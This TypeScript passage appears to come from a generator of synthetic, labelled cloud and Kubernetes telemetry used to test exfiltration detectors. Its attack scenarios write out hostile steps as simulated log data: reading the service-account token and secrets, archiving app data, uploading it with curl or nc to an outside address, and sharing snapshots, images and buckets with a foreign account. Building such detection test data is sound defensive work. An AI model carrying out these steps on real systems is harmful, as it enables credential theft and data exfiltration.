            responseElements,
          }),
        );
      ctx.rec.step(
        {
          scenario: 'cloud_shares',
          step: 'ami_public',
          kind: 'attack',
          description: 'AMI launch permission granted to all',
          start: t,
          actor,
          expected: ['ami_shared'],
        },
        () =>
          record(
            t,
            'ec2.amazonaws.com',
            'ModifyImageAttribute',
            { imageId: 'ami-0abc1234def567890', launchPermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'launchPermission' },
            { _return: true },
          ),
      );
      ctx.rec.step(
        {
          scenario: 'cloud_shares',
          step: 'rds_snapshot_share',
          kind: 'attack',
          description: 'RDS snapshot restore permission added for a foreign account',
          start: t + 2 * MINUTE,
          actor,
          expected: ['rds_snapshot_shared'],
        },
        () =>
          record(
            t + 2 * MINUTE,
            'rds.amazonaws.com',
            'ModifyDBSnapshotAttribute',
            { dBSnapshotIdentifier: 'orders-2024-03-04', attributeName: 'restore', valuesToAdd: [ctx.world.foreignAccount] },
            { dBSnapshotIdentifier: 'orders-2024-03-04', dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: [ctx.world.foreignAccount] }] },
          ),
      );
      ctx.rec.step(
        {
          scenario: 'cloud_shares',
          step: 'bucket_policy',
          kind: 'attack',
          description: 'bucket policy granting the foreign account GetObject',
          start: t + 4 * MINUTE,
          actor,
          expected: ['s3_bucket_policy_external'],
        },
        () =>
          record(t + 4 * MINUTE, 's3.amazonaws.com', 'PutBucketPolicy', {
            bucketName: ctx.world.assetsBucket,
            bucketPolicy: {
              Version: '2012-10-17',
              Statement: [
                {
                  Sid: 'x',
                  Effect: 'Allow',
                  Principal: { AWS: `arn:aws:iam::${ctx.world.foreignAccount}:root` },
                  Action: ['s3:GetObject', 's3:ListBucket'],
                  Resource: [`arn:aws:s3:::${ctx.world.assetsBucket}`, `arn:aws:s3:::${ctx.world.assetsBucket}/*`],
                },
              ],
            },
            policy: '',
          }),
      );
    },
  },
};

interface ChainOptions {
  scenario: string;
  tool: 'curl' | 'nc';
  destination: { address: string; port: number; name: string };
  bytes: number;
  minutes: number;
  skipCloud?: boolean;
}

function attackChain(ctx: ScenarioContext, o: ChainOptions): void {
  const { rng, rec } = ctx;
  const t0 = ctx.attackAt + (o.scenario === 'exfil_chain' ? 0 : 10 * MINUTE);
  const image = o.tool === 'curl' ? 'docker.io/toolbox-unverified/debug-tools:latest' : 'ghcr.io/random-user/netshoot-plus:0.1';
  const workload: Workload = { namespace: 'shop', kind: 'Deployment', name: o.tool === 'curl' ? 'debug-tools' : 'net-debug', image, replicas: 1 };
  const pod = ctx.cluster.startPod(workload, t0, `${workload.name}-${rng.hex(9)}-${rng.hex(5)}`);
  pod.workloadKind = 'Pod';
  pod.workloadName = pod.name;
  const key = ctx.keyOf(pod);
  const scenario = o.scenario;
  rec.step(
    {
      scenario,
      step: 'untrusted_image',
      kind: 'attack',
      description: `pod started from the untrusted image ${image}`,
      start: t0,
      workload: key,
      actor: ATTACKER.username,
      expected: ['untrusted_image_sensitive_access', 'exfiltration_chain'],
    },
    () => {
      rec.addAudit(
        t0,
        auditRecord(rng, {
          time: t0,
          verb: 'create',
          user: ATTACKER,
          resource: 'pods',
          namespace: pod.namespace,
          name: pod.name,
          requestObject: podObject(pod, 'Pending'),
          responseObject: podObject(pod, 'Pending'),
          sourceIp: '198.51.100.200',
        }),
      );
      rec.addAudit(
        t0 + 4_000,
        auditRecord(rng, {
          time: t0 + 4_000,
          verb: 'patch',
          user: { username: `system:node:${pod.node}`, groups: ['system:nodes', 'system:authenticated'] },
          resource: 'pods',
          subresource: 'status',
          namespace: pod.namespace,
          name: pod.name,
          responseObject: podObject(pod),
          sourceIp: pod.nodeIp,
          userAgent: 'kubelet/v1.29.3 (linux/amd64) kubernetes/6813625',
        }),
      );
    },
  );
  const tExec = t0 + 2 * MINUTE;
  let shell: TetragonProc | undefined;
  rec.step(
    {
      scenario,
      step: 'exec',
      kind: 'attack',
      description: 'kubectl exec -it into the pod, a shell',
      start: tExec,
      workload: key,
      actor: ATTACKER.username,
      expected: ['pod_exec', 'exec_payload', 'exfiltration_chain'],
    },
    () => {
      rec.addAudit(
        tExec,
        auditRecord(rng, {
          time: tExec,
          verb: 'create',
          user: ATTACKER,
          resource: 'pods',
          subresource: 'exec',
          namespace: pod.namespace,
          name: pod.name,
          query: `command=sh&container=${pod.container}&stdin=true&stdout=true&tty=true`,
          sourceIp: '198.51.100.200',
        }),
      );
      shell = ctx.process(pod, tExec + 900, '/bin/sh', '', { tty: true, durationMs: 20 * MINUTE });
      rec.addFalco(
        tExec + 950,
        falcoAlert(rng, {
          time: tExec + 950,
          rule: 'Terminal shell in container',
          priority: 'Notice',
          output: `A shell was spawned in a container with an attached terminal (evt_type=execve user=root process=sh parent=runc command=sh terminal=34816 k8s.ns=${pod.namespace} k8s.pod=${pod.name})`,
          tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
          pod,
          proc: { name: 'sh', exepath: '/bin/sh', cmdline: 'sh', pid: 4242, tty: 34816 },
        }),
      );
    },
  );
  const sh = shell as TetragonProc;
  const tSecrets = tExec + 2 * MINUTE;
  rec.step(
    {
      scenario,
      step: 'secret_read',
      kind: 'attack',
      description: 'service-account token read in the pod, then three secrets read through the API',
      start: tSecrets,
      workload: key,
      actor: ATTACKER.username,
      expected: ['secret_harvesting', 'exec_payload', 'untrusted_image_sensitive_access', 'exfiltration_chain'],
    },
    () => {
      ctx.process(pod, tSecrets, '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token', {
        parent: sh,
        kprobes: (proc, parent) =>
          rec.addTetragon(
            tSecrets + 5,
            tetragonKprobe(pod, proc, parent, tSecrets + 5, 'security_file_permission', { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' }),
          ),
      });
      rec.addFalco(
        tSecrets + 10,
        falcoAlert(rng, {
          time: tSecrets + 10,
          rule: 'Read sensitive file untrusted',
          priority: 'Warning',
          output: `Sensitive file opened for reading by non-trusted program (file=/var/run/secrets/kubernetes.io/serviceaccount/token process=cat k8s.ns=${pod.namespace} k8s.pod=${pod.name})`,
          tags: ['maturity_stable', 'filesystem', 'mitre_credential_access', 'T1555'],
          pod,
          proc: {
            name: 'cat',
            exepath: '/bin/cat',
            cmdline: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
            pid: 4250,
            tty: 34816,
            pname: 'sh',
            pcmdline: 'sh',
          },
          extra: { 'fd.name': '/var/run/secrets/kubernetes.io/serviceaccount/token' },
        }),
      );
      for (const [i, name] of ['db-credentials', 'payment-api-key', 'aws-backup-credentials'].entries()) {
        const t = tSecrets + 20_000 + i * 15_000;
        rec.addAudit(t, auditRecord(rng, { time: t, verb: 'get', user: ATTACKER, resource: 'secrets', namespace: 'shop', name, sourceIp: '198.51.100.200' }));
      }
    },
  );
  const tTar = tSecrets + 3 * MINUTE;
  rec.step(
    {
      scenario,
      step: 'archive',
      kind: 'attack',
      description: 'tar of the application data in the pod, without a terminal',
      start: tTar,
      workload: key,
      actor: ATTACKER.username,
      expected: ['exec_payload', 'kubectl_cp', 'exfiltration_chain'],
    },
    () => {
      ctx.process(pod, tTar, '/bin/tar', 'czf /tmp/.cache.tgz /app/data /var/lib/app', { parent: sh, durationMs: 40_000 });
    },
  );
  const tUp = tTar + 2 * MINUTE;
  const upload = o.tool === 'curl' ? `-s -T /tmp/.cache.tgz https://${o.destination.address}/upload` : `${o.destination.address} ${o.destination.port}`;
  const binary = o.tool === 'curl' ? '/usr/bin/curl' : '/usr/bin/nc';
  rec.step(
    {
      scenario,
      step: 'upload',
      kind: 'attack',
      description: `upload of the archive with ${o.tool} to ${o.destination.address}`,
      start: tUp,
      end: tUp + o.minutes * MINUTE,
      workload: key,
      actor: ATTACKER.username,
      expected: ['exec_payload', 'egress_volume_anomaly', 'new_external_destination', 'exfiltration_chain'],
    },
    () => {
      ctx.process(pod, tUp, binary, upload, {
        parent: sh,
        durationMs: o.minutes * MINUTE,
        kprobes: (proc, parent) => {
          const sock = { saddr: pod.ip, daddr: o.destination.address, sport: 45012, dport: o.destination.port };
          rec.addTetragon(tUp + 50, tetragonKprobe(pod, proc, parent, tUp + 50, 'tcp_connect', { sock }));
          for (let m = 0; m < o.minutes; m++) {
            rec.addTetragon(
              tUp + m * MINUTE + 1000,
              tetragonKprobe(pod, proc, parent, tUp + m * MINUTE + 1000, 'tcp_sendmsg', { sock, size: Math.round(o.bytes / o.minutes) }),
            );
          }
        },
      });
      if (o.tool === 'nc')
        rec.addFalco(
          tUp + 60,
          falcoAlert(rng, {
            time: tUp + 60,
            rule: 'Launch Suspicious Network Tool in Container',
            priority: 'Notice',
            output: `Network tool launched in container (process=nc command=nc ${upload} k8s.ns=${pod.namespace} k8s.pod=${pod.name})`,
            tags: ['maturity_incubating', 'container', 'network', 'mitre_exfiltration', 'T1048'],
            pod,
            proc: { name: 'nc', exepath: '/usr/bin/nc', cmdline: `nc ${upload}`, pid: 4300, tty: 34816, pname: 'sh', pcmdline: 'sh' },
          }),
        );
      ctx.conversation({
        start: tUp,
        end: tUp + o.minutes * MINUTE,
        src: { pod },
        dst: { address: o.destination.address, port: o.destination.port },
        bytes: o.bytes,
        replyBytes: o.bytes / 500,
      });
    },
  );
  if (o.skipCloud) return;
  const tSnap = tUp + 15 * MINUTE;
  const identity = assumedRole(rng, ctx.world.account, 'backup-writer', 'stolen-session');
  const actor = `arn:aws:sts::${ctx.world.account}:assumed-role/backup-writer/stolen-session`;
  rec.step(
    {
      scenario,
      step: 'snapshot_share',
      kind: 'attack',
      description: 'EBS snapshot of the database volume shared with a foreign account',
      start: tSnap,
      actor,
      expected: ['ebs_snapshot_shared', 'snapshot_share_story'],
    },
    () => {
      rec.addCloudTrail(
        tSnap,
        cloudTrailRecord(rng, {
          time: tSnap,
          eventSource: 'ec2.amazonaws.com',
          eventName: 'CreateSnapshot',
          identity,
          account: ctx.world.account,
          region: ctx.world.region,
          sourceIp: '203.0.113.77',
          userAgent: 'aws-cli/2.15.30',
          requestParameters: { volumeId: 'vol-0db0000000000000a' },
          responseElements: { snapshotId: 'snap-0exfil0000000001', volumeId: 'vol-0db0000000000000a', status: 'pending', ownerId: ctx.world.account },
        }),
      );
      rec.addCloudTrail(
        tSnap + 3 * MINUTE,
        cloudTrailRecord(rng, {
          time: tSnap + 3 * MINUTE,
          eventSource: 'ec2.amazonaws.com',
          eventName: 'ModifySnapshotAttribute',
          identity,
          account: ctx.world.account,
          region: ctx.world.region,
          sourceIp: '203.0.113.77',
          userAgent: 'aws-cli/2.15.30',
          requestParameters: {
            snapshotId: 'snap-0exfil0000000001',
            attributeType: 'CREATE_VOLUME_PERMISSION',
            createVolumePermission: { add: { items: [{ userId: ctx.world.foreignAccount }] } },
          },
          responseElements: { requestId: rng.uuid(), _return: true },
        }),
      );
    },
  );
  const tCopy = tSnap + 8 * MINUTE;
  rec.step(
    {
      scenario,
      step: 'snapshot_consumed',
      kind: 'attack',
      description: 'the foreign account copies the shared snapshot',
      start: tCopy,
      actor: ctx.world.foreignAccount,
      expected: ['shared_snapshot_consumed', 'snapshot_share_story'],
    },
    () => {
      rec.addCloudTrail(
        tCopy,
        cloudTrailRecord(rng, {
          time: tCopy,
          eventSource: 'ec2.amazonaws.com',
          eventName: 'SharedSnapshotCopyInitiated',
          identity: { accountId: ctx.world.foreignAccount, type: 'AWSAccount', principalId: '' },
          account: ctx.world.account,
          region: ctx.world.region,
          sourceIp: 'AWS Internal',
          eventType: 'AwsServiceEvent',
          readOnly: false,
          requestParameters: null,
          responseElements: null,
          resources: [{ ARN: `arn:aws:ec2:${ctx.world.region}::snapshot/snap-0exfil0000000001`, accountId: ctx.world.account, type: 'AWS::EC2::Snapshot' }],
        }),
      );
    },
  );
}

export const DEFAULT_SCENARIOS = ['web_services', 'batch_jobs', 'nightly_backup', 'ci_pulls', 'admin_ops', 'exfil_chain'];

function sorted<T>(items: Timed<T>[]): T[] {
  return items.sort((a, b) => a.time - b.time || a.seq - b.seq).map((i) => i.value);
}

/**
 * Generate labelled telemetry for every source: deterministic for a given
 * seed and options. Background web traffic is always present (it is what the
 * baselines learn); the scenarios add benign activity and attacks.
 */
export function generateScenario(options: ScenarioOptions = {}): GeneratedTelemetry {
  const seed = options.seed ?? 1;
  const hours = options.hours ?? 6;
  const start = options.start ?? Date.UTC(2024, 2, 4);
  const end = start + hours * HOUR;
  const names = options.scenarios ?? DEFAULT_SCENARIOS;
  for (const name of names) if (!SCENARIOS[name]) throw new Error(`unknown scenario "${name}" (known: ${Object.keys(SCENARIOS).join(', ')})`);
  const world: WorldConfig = { ...DEFAULT_WORLD, ...options.world };
  const rng = new Random(seed);
  processCounter.next = 1000;
  const rec = new Recorder();
  const cluster = new Cluster(world, rng);
  const workloads = defaultWorkloads(world, options.workloads ?? 1);
  const attackAt = Math.floor(start + (end - start) * (options.attackAt ?? 0.75));
  const ctx = createContext(world, rng, rec, start, end, attackAt, workloads, cluster);
  background(ctx);
  for (const name of names) (SCENARIOS[name] as ScenarioDefinition).run(ctx);
  const inventory: InventoryEntry[] = cluster.pods.map((p) => ({
    cluster: world.cluster,
    namespace: p.namespace,
    pod: p.name,
    uid: p.uid,
    workloadKind: p.workloadKind,
    workloadName: p.workloadName,
    node: p.node,
    labels: p.labels,
    containers: [{ name: p.container, id: p.containerId, image: p.image, imageDigest: p.imageDigest }],
    ip: p.ip,
    validFrom: new Date(p.start).toISOString(),
    ...(p.end !== undefined ? { validTo: new Date(p.end).toISOString() } : {}),
  }));
  const header = VPC_FLOW_FIELDS.join(' ');
  const out: GeneratedTelemetry = {
    audit: sorted(rec.audit),
    cloudtrail: sorted(rec.cloudtrail),
    vpcFlow: [header, ...sorted(rec.vpc)],
    falco: sorted(rec.falco),
    tetragon: sorted(rec.tetragon),
    inventory,
    labels: rec.labels.sort((a, b) => a.start - b.start),
    presetConfig: presetConfigFor(world),
    meta: { seed, start, end, hours, scenarios: names, world, counts: {} },
  };
  out.meta.counts = {
    k8s_audit: out.audit.length,
    aws_cloudtrail: out.cloudtrail.length,
    aws_vpc_flow: out.vpcFlow.length - 1,
    falco: out.falco.length,
    tetragon: out.tetragon.length,
  };
  return out;
}

/** The `t1537` preset configuration matching a generated world. */
export function presetConfigFor(world: WorldConfig): Record<string, unknown> {
  return {
    organization: {
      accounts: [world.account],
      trustedAccounts: [world.partnerAccount],
      vpcIds: [world.vpcId],
      cidrs: ['10.20.0.0/16'],
      buckets: [world.backupBucket, world.assetsBucket],
    },
    cluster: { name: world.cluster, podCidrs: [world.podCidr], serviceCidrs: [world.serviceCidr] },
    destinations: {
      allow: [DESTINATIONS.paymentApi.address, DESTINATIONS.metricsSaas.address],
      cloudRanges: {
        prefixes: [
          { prefix: DESTINATIONS.s3.prefix, region: world.region, service: 'S3' },
          { prefix: '52.95.110.0/24', region: world.region, service: 'AMAZON' },
        ],
      },
    },
    images: { trustedRegistries: [world.registry] },
    exceptions: [
      {
        id: 'nightly-backup-to-own-bucket',
        match: { 'workload.namespace': 'ops', 'workload.workloadName': 'nightly-backup' },
        reason: "The nightly backup syncs database dumps to the organisation's own S3 bucket",
        owner: 'platform-team@acme.example',
        expires: '2030-01-01T00:00:00Z',
      },
    ],
  };
}
